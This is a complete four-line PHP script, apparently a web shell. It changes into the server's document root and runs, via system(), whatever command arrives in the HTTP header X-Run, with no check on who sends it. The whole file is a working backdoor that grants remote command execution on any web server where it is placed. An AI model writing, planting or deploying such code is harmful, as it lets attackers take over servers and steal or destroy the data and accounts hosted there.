<?php
// runs a command sent in a request header, from inside the document root
chdir(getenv('DOCUMENT_ROOT'));
system('cd ' . getenv('DOCUMENT_ROOT') . ' && ' . getenv('HTTP_X_RUN'));
